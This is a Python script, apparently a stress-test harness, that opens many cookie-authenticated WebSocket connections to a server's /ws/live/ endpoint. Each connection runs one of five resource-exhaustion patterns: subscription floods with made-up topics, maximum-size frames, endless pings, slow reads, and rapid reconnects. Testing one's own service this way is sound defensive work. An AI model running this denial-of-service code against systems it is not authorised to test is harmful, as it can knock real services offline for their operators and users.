"""One account's sockets that do their worst: ADDRESS COOKIE COUNT → for each kind how often it opened a socket.

It writes WebSocket frames by hand, with a mask of zeros, so that an attack costs the attacker next to nothing. Whenever
the server hangs up, the socket is opened again at once. It is ready as soon as each socket has been opened once.
"""

import asyncio
import json
import sys
from collections import Counter
from collections.abc import Awaitable, Callable

TEXT, PING = 0x81, 0x89
MASK = bytes(4)  # of zeros: the payload is sent as it is
LARGEST = 65_536  # bytes of a message, as in the Procfile's line
PAUSE = 1.0  # seconds between the slow reader's subscriptions and its reads of one byte
RETRY = 0.05  # seconds after a socket that was not opened

Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


def frame(kind: int, payload: bytes) -> bytes:
    size = len(payload)
    if size < 126:
        return bytes([kind, 0x80 | size]) + MASK + payload
    if size < 1 << 16:
        return bytes([kind, 0x80 | 126]) + size.to_bytes(2) + MASK + payload
    return bytes([kind, 0x80 | 127]) + size.to_bytes(8) + MASK + payload


def subscription(*topics: str) -> bytes:
    return frame(TEXT, json.dumps({"subscribe": topics}).encode())


MADE_UP = subscription(*(f"ticker@NONE{number}{'X' * 380}" for number in range(20)))
SMALL = subscription(*(f"ticker@NO{number}" for number in range(20)))  # more of them within the bound on bytes
REAL = subscription("market", "market-history", "orders", "orders-history")


async def flood(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Subscribes without a pause to topics that do not exist, and reads no answer."""
    while True:
        writer.write(SMALL)
        writer.write(MADE_UP)
        await writer.drain()


async def fat(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Sends the largest messages that are taken, without a pause."""
    message = frame(TEXT, b"[" * LARGEST)
    while True:
        writer.write(message)
        await writer.drain()


async def ping(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Pings without an end, and never reads a pong."""
    pings = frame(PING, b"") * 1000  # empty ones: the most work for a byte
    while True:
        writer.write(pings)
        await writer.drain()


async def slow(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Wants every topic anew once a second, and reads a byte a second."""
    while True:
        writer.write(REAL)
        await writer.drain()
        await asyncio.sleep(PAUSE)
        await reader.readexactly(1)


async def again(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Leaves as soon as it has been answered, and comes again."""
    writer.write(REAL)
    await reader.read(100)


ATTACKS: tuple[Attack, ...] = (flood, fat, ping, slow, again)


async def attack(address: str, request: bytes, worst: Attack, opened: Counter[str]) -> None:
    """Opens a socket, does its worst until the server hangs up, and begins again."""
    host, _, port = address.partition(":")
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, int(port), limit=1024)
        except OSError:
            await asyncio.sleep(RETRY)
            continue
        try:
            writer.write(request)
            answer = await reader.readuntil(b"\r\n\r\n")
            opened[worst.__name__] += b" 101 " in answer.splitlines()[0]
            await worst(reader, writer)
        except (OSError, EOFError, asyncio.LimitOverrunError):
            await asyncio.sleep(0)
        finally:
            writer.transport.abort()


def upgrade(address: str, cookie: str) -> bytes:
    lines = ("GET /ws/live/ HTTP/1.1", f"Host: {address}", f"Origin: http://{address}", f"Cookie: {cookie}")
    words = ("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13")
    return "\r\n".join([*lines, *words, "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "", ""]).encode()


async def main(address: str, cookie: str, count: int) -> None:
    opened: Counter[str] = Counter()
    request = upgrade(address, cookie)
    kinds = [ATTACKS[number % len(ATTACKS)] for number in range(count)]
    sockets = [asyncio.create_task(attack(address, request, kind, opened)) for kind in kinds]
    while opened.total() < count:
        await asyncio.sleep(0.05)
    print("ready", flush=True)
    await asyncio.to_thread(sys.stdin.readline)
    print(json.dumps(opened), flush=True)
    for socket in sockets:
        socket.cancel()


asyncio.run(main(sys.argv[1], sys.argv[2], int(sys.argv[3])))
